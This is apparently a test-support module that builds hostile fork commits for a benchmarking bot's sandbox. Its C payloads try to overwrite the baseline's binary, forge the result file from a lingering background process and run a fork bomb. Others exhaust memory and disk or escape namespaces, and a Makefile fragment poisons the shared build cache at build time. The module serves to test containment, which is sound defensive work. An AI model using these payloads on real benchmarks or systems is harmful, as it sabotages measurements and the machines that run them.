"""Hostile candidates: fork commits of the minibench project that attack the measurement
(tests/test_hostile.py and scripts/attack_table.py run them through the real driver, executor, sandbox).

Each attacker is a real commit: its payload is C code in src/kernels.c (a constructor that runs when bin/bench
starts, so validation passes and the benchmark invocations, wall and simulated, run the attack) or, for the
build-time attack, a src/attack.mk that the baseline's Makefile includes (`-include src/*.mk`: candidate code
at build time, as CMakeLists.txt is in llama.cpp). Every payload appends what it tried and whether it worked
to attack-report.txt in its own tree, which the tests read afterwards.
"""

from __future__ import annotations

import copy
import json
import os
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[1]
UID_FIRST = 63000  # JAIL_UID + jail.SANDBOX_UID_OFFSET: the baseline's uid, candidate i gets UID_FIRST + i
FIXTURE = ROOT / "tests" / "fixtures" / "minibench"

PRELUDE = r"""#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
extern char *program_invocation_short_name;
static char W[4096];  /* the driver's workdir, guessed from the benchmark's cwd (<workdir>/bench-tree) */
static void report(const char *what, int ok) {
    int e = errno;
    FILE *f = fopen("attack-report.txt", "a");
    if (!f) return;
    fprintf(f, "%s: %s %s\n", what, ok ? "SUCCEEDED" : "failed", ok ? "" : strerror(e));
    fclose(f);
}
static int writes(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_NOFOLLOW, 0755);
    if (fd < 0) return 0;
    int ok = write(fd, text, strlen(text)) > 0;
    close(fd);
    return ok;
}
static void attack(void);
__attribute__((constructor)) static void start(void) {
    if (strcmp(program_invocation_short_name, "bench") != 0) return;
    if (!getcwd(W, sizeof W)) return;
    char *s = strrchr(W, '/');
    if (s) *s = 0;
    attack();
}
"""

PAYLOADS: dict[str, str] = {
    # 1. sabotage the baseline: rewrite its benchmark binary (a sibling tree in the old single jail) and tree
    "rewrite_baseline": r"""
static void attack(void) {
    char p[8192];
    snprintf(p, sizeof p, "%s/wt/baseline/bin/bench", W);
    report("rewrite the baseline's binary", writes(p, "#!/bin/sh\nexec sleep 1\n"));
    snprintf(p, sizeof p, "%s/wt/baseline/src/kernels.c", W);
    report("rewrite the baseline's tree", writes(p, "int broken;\n"));
    snprintf(p, sizeof p, "%s/bench-tree/../wt/baseline/bin/check", W);
    report("rewrite the baseline's check", writes(p, "#!/bin/sh\nexit 0\n"));
}
""",
    # 2 + 4. a background process that outlives its invocation and rewrites the result after the driver
    "background": r"""
static void attack(void) {
    if (fork() != 0) return;
    setsid();
    char p[8192], mark[8192];
    snprintf(p, sizeof p, "%s/../result.json", W);
    snprintf(mark, sizeof mark, "%s/outlived", getcwd(mark, sizeof mark) ? mark : ".");
    int tried = 0;
    for (int i = 0; i < 300; i++) {  /* 30 s */
        int ok = writes(p, "{\"schema\":1,\"forged\":true}");
        if (ok || !tried++) report("rewrite the result file from a background process", ok);
        if (i == 30) writes(mark, "a process of this candidate was still running 3 s after it started\n");
        usleep(100000);
    }
    _exit(0);
}
""",
    # 3. leave a FIFO / symlink / huge file where the bot reads the result
    "fifo_result": r"""
static void attack(void) {
    char p[8192], q[8192];
    snprintf(p, sizeof p, "%s/../result.json", W);
    unlink(p);
    report("replace the result file with a FIFO", mkfifo(p, 0666) == 0);
    snprintf(q, sizeof q, "%s/../done.json", W);
    report("replace done.json with a symlink", symlink("/dev/zero", q) == 0);
    snprintf(q, sizeof q, "%s/../huge.json", W);
    int fd = open(q, O_WRONLY | O_CREAT, 0666);
    report("write a huge file beside the result", fd >= 0 && ftruncate(fd, 1L << 34) == 0);
}
""",
    # 5. a fork bomb
    "fork_bomb": r"""
static void attack(void) {
    long n = 0;
    for (;;) { pid_t c = fork(); if (c == 0) { pause(); _exit(0); } if (c > 0 && ++n == 100000) break; }
    report("fork 100000 processes", 1);
}
""",
    # 6. 20 GB of memory
    "memory": r"""
static void attack(void) {
    size_t got = 0;
    for (int i = 0; i < 20; i++) {
        char *m = malloc(1UL << 30);
        if (!m) break;
        memset(m, 1, 1UL << 30);
        got++;
    }
    report("allocate and touch 20 GiB", got == 20);
    sleep(3);  /* and keep it */
}
""",
    # 7. fill the disk
    "disk_filler": r"""
static void attack(void) {
    static char buf[1 << 20];
    memset(buf, 7, sizeof buf);
    int total = 0;
    for (int i = 0; i < 100000; i++) {
        char p[64];
        snprintf(p, sizeof p, "fill-%d", i);
        int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) break;
        for (int j = 0; j < 64; j++) if (write(fd, buf, sizeof buf) <= 0) break;
        close(fd);
        total += 64;
    }
    report("fill the disk", total >= 100000 * 64);
}
""",
    # 8. an infinite loop
    "infinite_loop": r"""
static void attack(void) { volatile unsigned long n = 0; for (;;) n++; }
""",
    # 9. unshare to regain uid 0 / network
    "unshare": r"""
static void attack(void) {
    report("unshare(CLONE_NEWUSER) (uid 0 in a new user namespace)", unshare(CLONE_NEWUSER) == 0);
    report("unshare(CLONE_NEWNET)", unshare(CLONE_NEWNET) == 0);
    report("unshare -Ur (util-linux)", system("unshare -Ur true 2>/dev/null") == 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(53)};
    inet_pton(AF_INET, "1.1.1.1", &a.sin_addr);
    report("connect to the network", s >= 0 && connect(s, (struct sockaddr *)&a, sizeof a) == 0);
}
""",
    # 11. a million METRIC lines
    "metric_flood": r"""
static void attack(void) {
    for (int i = 0; i < 1000000; i++) printf("METRIC softmax_ns=1.0\n");
    fflush(stdout);
}
""",
    "undeclared_metrics": r"""
static void attack(void) {
    for (int i = 0; i < 20000; i++) printf("METRIC junk_%d=1\n", i);
    fflush(stdout);
}
""",
}

# 10. code run during the candidate's build that edits shared build state (sibling trees, the batch's compiler
# cache store, the ccache masquerade dir, the benchmark path)
BUILD_ATTACK = r"""
X := $(shell \
  for t in ../baseline/bin/bench ../baseline/src/kernels.c ../../ccache-store/poison ../../ccache-bin/cc \
           ../../ccache/baseline/poison ../../bench-tree/bin/bench ../../../result.json; do \
    if (echo '#!/bin/sh' > $$t) 2>/dev/null; then echo "build: write $$t: SUCCEEDED"; \
    else echo "build: write $$t: failed"; fi; \
  done >> attack-report.txt)
"""

ATTACKS = [*PAYLOADS, "build_time"]
# what each attack must end as: (status, the reason's words); status "ok" = contained, measured as itself
EXPECTED = {
    "rewrite_baseline": ("ok", None),
    "background": ("ok", None),
    "fifo_result": ("ok", None),
    "fork_bomb": ("bench_failed", "exceeded process limit"),
    "memory": ("bench_failed", "exceeded memory limit"),
    "disk_filler": ("bench_failed", "exceeded disk limit"),
    "infinite_loop": ("bench_failed", "timeout"),
    "unshare": ("ok", None),
    "metric_flood": ("bench_failed", "exceeded output limit"),
    "undeclared_metrics": ("bench_failed", "more than 10000 METRIC lines"),
    "build_time": ("ok", None),
}
# small limits: the attacks hit them fast (the minibench needs a few MiB)
LIMITS = {"memory_mb": 512, "processes": 128, "disk_mb": 256, "output_mb": 4, "tmp_mb": 64, "file_mb": 512}


def git(repo: Path, *args: str) -> str:
    env = {
        "GIT_AUTHOR_NAME": "attacker",
        "GIT_AUTHOR_EMAIL": "a@example.com",
        "GIT_COMMITTER_NAME": "attacker",
        "GIT_COMMITTER_EMAIL": "a@example.com",
        "PATH": "/usr/bin:/bin:/usr/local/bin",
        "HOME": str(repo),
    }
    out = subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True, text=True)
    return out.stdout.strip()


def make_repo(dest: Path, attacks: list[str] | None = None) -> dict[str, str]:
    """The minibench repository (its Makefile also includes src/*.mk) with one fork commit per attack and an
    A/A control; returns {"baseline": sha, "aa": sha, attack: sha, ...}."""
    dest.mkdir(parents=True)
    git(dest, "init", "-q", "-b", "main")
    for entry in FIXTURE.iterdir():
        if entry.name in ("make_repo.py", "__pycache__", "bin", "build"):
            continue
        if entry.is_dir():
            shutil.copytree(entry, dest / entry.name, ignore=shutil.ignore_patterns("bin", "build", "*.o"))
        else:
            shutil.copy2(entry, dest / entry.name)
    mk = dest / "Makefile"
    mk.write_text(mk.read_text() + "\n-include $(wildcard src/*.mk)\n")
    git(dest, "add", "-A")
    git(dest, "commit", "-q", "-m", "minibench baseline")
    shas = {"baseline": git(dest, "rev-parse", "HEAD")}
    kernels = (dest / "src" / "kernels.c").read_text()
    for name in ["aa", *(attacks or ATTACKS)]:
        git(dest, "checkout", "-q", "-b", name, "main")
        if name == "build_time":
            (dest / "src" / "attack.mk").write_text(BUILD_ATTACK)
            git(dest, "add", "src/attack.mk")
        elif name != "aa":
            (dest / "src" / "kernels.c").write_text(PRELUDE + PAYLOADS[name] + kernels)
        git(dest, "commit", "-q", "--allow-empty", "-a", "-m", f"fork: {name}")
        shas[name] = git(dest, "rev-parse", "HEAD")
        git(dest, "checkout", "-q", "main")
    return shas


def project() -> dict[str, Any]:
    proj = yaml.safe_load((FIXTURE / ".autoresearch.yml").read_text())
    proj["benchmark"].update(
        rounds=1, repetitions=2, warmup=0, min_pairs=2, max_pairs=2, timeout=8, command="./bin/bench 300"
    )
    proj["simulate"] = {"command": "./bin/bench 20", "timeout": 120}
    return proj


def spec(shas: dict[str, str], names: list[str], run_id: int) -> dict[str, Any]:
    return {
        "schema": 1,
        "run_id": run_id,
        "arch": "x86",
        "seed": 1,
        "source": {},
        "baseline": {"name": "baseline", "sha": shas["baseline"]},
        "candidates": [{"name": n, "sha": shas[n]} for n in names],
        "project": copy.deepcopy(project()),
    }


def run_batches(work: Path, attacks: list[str] | None = None, timeout: float = 900) -> dict[str, Any]:
    """The hostile batch (baseline, A/A, every attacker) then, queued behind it, a clean batch (baseline and
    A/A): both through LocalExecutor (the runner, the driver, one sandbox per invocation)."""
    from bot.experiments import tasks  # noqa: PLC0415
    from bot.experiments.executors import Batch, LocalExecutor  # noqa: PLC0415

    attacks = list(attacks or ATTACKS)
    shas = make_repo(work / "repo", attacks)
    bundle = tasks.make_bundle(work / "repo", list(shas.values()), work / "repo.bundle")
    ex = LocalExecutor(work / "runs", limits=LIMITS)
    t0 = time.monotonic()
    hostile = ex.submit(Batch(run_id=1, specs={"x86": spec(shas, ["aa", *attacks], 1)}, bundle=bundle))
    clean = ex.submit(Batch(run_id=2, specs={"x86": spec(shas, ["aa"], 2)}, bundle=bundle))  # queued
    states: dict[str, str] = {}
    while time.monotonic() - t0 < timeout:
        states = {h: ex.poll(h) for h in (hostile, clean)}
        if all(s != "running" for s in states.values()):
            break
        time.sleep(0.5)
    out = {"executor": ex, "handles": (hostile, clean), "states": states, "shas": shas, "attacks": attacks}
    out["seconds"] = round(time.monotonic() - t0, 1)
    out["hostile"] = ex.collect(hostile).get("x86")
    out["clean"] = ex.collect(clean).get("x86")
    files = work / "runs" / hostile / "x86"
    out["reports"] = {}
    for name in attacks:
        rep = files / "work" / "wt" / name / "attack-report.txt"
        out["reports"][name] = rep.read_text(errors="replace") if rep.is_file() else ""
        out.setdefault("outlived", {})[name] = (files / "work" / "wt" / name / "outlived").exists()
    out["result_file"] = files / "result.json"
    return out


def run_vm(work: Path, attacks: list[str] | None = None, timeout: float = 900) -> dict[str, Any]:
    """The same two batches with the driver run as a SkyPilot VM runs it: the task files in a directory and
    `python3 driver.py --spec spec.json --out result.json --workdir work` there (bench.yaml's `run`), as
    root, the system python3, no local executor and no outer jail; the limits come from the spec."""
    from bot.experiments import tasks  # noqa: PLC0415

    attacks = list(attacks or ATTACKS)
    shas = make_repo(work / "repo", attacks)
    bundle = tasks.make_bundle(work / "repo", list(shas.values()), work / "repo.bundle")
    out: dict[str, Any] = {"shas": shas, "attacks": attacks, "states": {}, "handles": ("vm-1", "vm-2")}
    t0 = time.monotonic()
    for handle, names, key in (("vm-1", ["aa", *attacks], "hostile"), ("vm-2", ["aa"], "clean")):
        files = work / handle
        sp = spec(shas, names, int(handle[-1]))
        sp["project"]["limits"] = dict(LIMITS)
        tasks.write_batch_files(sp, files, bundle, link_bundle=False)
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(work), "LANG": "C.UTF-8"}
        argv = ["python3", "driver.py", "--spec", "spec.json", "--out", "result.json", "--workdir", "work"]
        with open(files / "driver.log", "wb") as log:
            rc = subprocess.call(
                argv, cwd=files, env=env, stdout=log, stderr=subprocess.STDOUT, timeout=timeout
            )
        result = (
            json.loads((files / "result.json").read_text()) if (files / "result.json").is_file() else None
        )
        out[key] = result
        out["states"][handle] = "done" if rc == 0 and result and result.get("complete") else "failed"
    out["seconds"] = round(time.monotonic() - t0, 1)
    files = work / "vm-1"
    out["reports"], out["outlived"] = {}, {}
    for name in attacks:
        rep = files / "work" / "wt" / name / "attack-report.txt"
        out["reports"][name] = rep.read_text(errors="replace") if rep.is_file() else ""
        out["outlived"][name] = (files / "work" / "wt" / name / "outlived").exists()
    out["result_file"] = files / "result.json"
    return out


def table(run: dict[str, Any]) -> list[dict[str, Any]]:
    """One row per attack: outcome, reason, attack lines that SUCCEEDED, baseline delta vs the clean batch."""
    from bot.experiments.stats import policy  # noqa: PLC0415

    hostile, clean = run["hostile"], run["clean"]
    base_h = ((hostile or {}).get("variants", {}).get("baseline", {}).get("simulated") or {}).get(
        "estimated_cycles"
    )
    base_c = ((clean or {}).get("variants", {}).get("baseline", {}).get("simulated") or {}).get(
        "estimated_cycles"
    )
    delta = abs(base_h - base_c) / base_c if base_h and base_c else None
    winners = policy.decide({"x86": hostile}, project()).winners if hostile else []
    rows = []
    for name in run["attacks"]:
        v = (hostile or {}).get("variants", {}).get(name, {})
        succeeded = [ln for ln in run["reports"].get(name, "").splitlines() if "SUCCEEDED" in ln]
        rows.append(
            {
                "attack": name,
                "status": v.get("status", "missing"),
                "reason": v.get("limit") or _first_line(v.get("error")) or "contained (measured as itself)",
                "succeeded": succeeded,
                "outlived": run.get("outlived", {}).get(name, False),
                "winner": name in winners,
                "baseline_delta": delta,
            }
        )
    return rows


def _first_line(text: Any) -> str:
    return str(text or "").strip().splitlines()[0][:120] if str(text or "").strip() else ""


def leftover_processes(first_uid: int, count: int) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                uid = os.stat(f"/proc/{entry}").st_uid
            except OSError:
                continue
            if first_uid <= uid < first_uid + count:
                pids.append(int(entry))
    return pids


def dump(rows: list[dict[str, Any]]) -> str:
    return json.dumps(rows, indent=1, default=str)
